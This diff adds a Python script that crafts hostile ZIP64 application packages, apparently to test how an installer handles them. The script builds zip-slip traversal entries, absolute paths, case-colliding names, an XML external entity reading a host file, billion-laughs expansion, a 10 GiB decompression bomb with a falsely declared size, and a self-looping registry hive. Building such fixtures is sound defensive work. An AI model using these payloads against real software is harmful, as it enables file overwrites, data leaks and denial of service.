@@ -1,0 +1,135 @@
+#!/usr/bin/env python3
+"""Writes a hostile variant of a good package, as an attacker's tool would.
+
+    HostilePackages.py GOOD.appv CASE OUT.appv [TARGET]
+
+The entries of GOOD are copied (deflated again) and the case adds or changes what it names.
+TARGET is an absolute host path that a name tries to reach, or the file an external entity
+reads. The archive is written by hand so that names and sizes are exactly what the case wants
+(Python's zipfile would refuse some of them).
+
+Cases: slip, slip-backslash, slip-escaped, absolute, case-twins, external-entity,
+billion-laughs, bomb-lying, bomb-honest, hive-loop.
+"""
+import struct
+import sys
+import zlib
+import zipfile
+
+GIB = 1 << 30
+
+
+class RawZip:
+    """A ZIP64 archive whose entries carry exactly the given names, sizes and payloads."""
+
+    def __init__(self, path):
+        self.out = open(path, "wb")
+        self.central = []
+
+    def add(self, name, payload, size, crc, method=8):
+        offset = self.out.tell()
+        raw_name = name.encode("utf-8")
+        extra = struct.pack("<HHQQ", 1, 16, size, len(payload))
+        self.out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0x800, method, 0, 0x5C21, crc,
+                                   0xFFFFFFFF, 0xFFFFFFFF, len(raw_name), len(extra)))
+        self.out.write(raw_name + extra)
+        self.out.write(payload)
+        self.central.append((raw_name, method, crc, len(payload), size, offset))
+
+    def add_file(self, name, data):
+        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
+        payload = compressor.compress(data) + compressor.flush()
+        self.add(name, payload, len(data), zlib.crc32(data))
+
+    def close(self):
+        start = self.out.tell()
+        for raw_name, method, crc, csize, size, offset in self.central:
+            extra = struct.pack("<HHQQQ", 1, 24, size, csize, offset)
+            self.out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0x800, method, 0, 0x5C21,
+                                       crc, 0xFFFFFFFF, 0xFFFFFFFF, len(raw_name), len(extra), 0, 0, 0, 0,
+                                       0xFFFFFFFF))
+            self.out.write(raw_name + extra)
+        end = self.out.tell()
+        count = len(self.central)
+        self.out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, end - start, start))
+        self.out.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1))
+        self.out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
+        self.out.close()
+
+
+def zeros_bomb(total):
+    """A deflate stream of `total` zero bytes built from one repeated, independently decodable
+    piece: ten gigabytes cost about ten megabytes and a fraction of a second."""
+    piece_size = 8 << 20
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    piece = compressor.compress(b"\0" * piece_size) + compressor.flush(zlib.Z_FULL_FLUSH)
+    assert total % piece_size == 0
+    return piece * (total // piece_size) + b"\x03\x00"
+
+
+def manifest_with_doctype(manifest, doctype, display_name):
+    head, rest = manifest.split(b"?>", 1)
+    text = head + b"?>\n" + doctype + rest
+    return text.replace(b"<DisplayName>Demo Notes</DisplayName>",
+                        b"<DisplayName>" + display_name + b"</DisplayName>")
+
+
+def looping_hive(hive):
+    """The root key's subkey list names the root key itself."""
+    data = bytearray(hive)
+    root = struct.unpack_from("<I", data, 0x24)[0]
+    root_payload = 4096 + root + 4
+    subkey_list = struct.unpack_from("<I", data, root_payload + 0x1C)[0]
+    list_payload = 4096 + subkey_list + 4
+    assert data[list_payload:list_payload + 2] in (b"lf", b"lh", b"li", b"ri"), "no subkey list"
+    struct.pack_into("<I", data, list_payload + 4, root)
+    return bytes(data)
+
+
+def main():
+    good, case, out = sys.argv[1:4]
+    target = sys.argv[4] if len(sys.argv) > 4 else "/tmp/quendle-hostile-target"
+    climb = "../" * 24 + target.lstrip("/")
+    with zipfile.ZipFile(good) as source:
+        entries = [(i.filename, source.read(i)) for i in source.infolist() if i.filename != "AppxBlockMap.xml"]
+    archive = RawZip(out)
+    for name, data in entries:
+        if case == "external-entity" and name == "AppxManifest.xml":
+            data = manifest_with_doctype(
+                data, b'<!DOCTYPE Package [<!ENTITY secret SYSTEM "file://' + target.encode() + b'">]>\n',
+                b"&secret;")
+        elif case == "billion-laughs" and name == "AppxManifest.xml":
+            entities = b'<!ENTITY l0 "lol">'
+            for i in range(1, 10):
+                entities += b'<!ENTITY l%d "%s">' % (i, (b"&l%d;" % (i - 1)) * 10)
+            data = manifest_with_doctype(data, b"<!DOCTYPE Package [" + entities + b"]>\n", b"&l9;")
+        elif case == "hive-loop" and name == "Registry.dat":
+            data = looping_hive(data)
+        archive.add_file(name, data)
+    if case == "slip":
+        archive.add_file(climb, b"escaped")
+        archive.add_file("Root/../../../../../../../../../../../../" + target.lstrip("/"), b"escaped")
+    elif case == "slip-backslash":
+        archive.add_file(climb.replace("/", "\\"), b"escaped")
+    elif case == "slip-escaped":
+        archive.add_file("Root/" + "%2E%2E/" * 24 + target.lstrip("/"), b"escaped")
+    elif case == "absolute":
+        archive.add_file(target, b"escaped")
+    elif case == "case-twins":
+        archive.add_file("Root/VFS/ProgramFilesX86/Demo Notes/NOTES.TXT", b"the later twin")
+        manifest = dict(entries)["AppxManifest.xml"]
+        archive.add_file("appxmanifest.xml", manifest.replace(b"<DisplayName>Demo Notes<",
+                                                              b"<DisplayName>Later Twin<"))
+    elif case == "bomb-lying":
+        # Declares one mebibyte; the stream inflates to ten gibibytes.
+        archive.add("Root/VFS/ProgramFilesX86/Demo Notes/bomb.bin", zeros_bomb(10 * GIB), 1 << 20, 0)
+    elif case == "bomb-honest":
+        # Declares all ten gibibytes (the CRC is never reached: the size is refused first).
+        archive.add("Root/VFS/ProgramFilesX86/Demo Notes/bomb.bin", zeros_bomb(10 * GIB), 10 * GIB, 0)
+    elif case not in ("external-entity", "billion-laughs", "hive-loop"):
+        sys.exit("unknown case " + case)
+    archive.close()
+
+
+if __name__ == "__main__":
+    main()
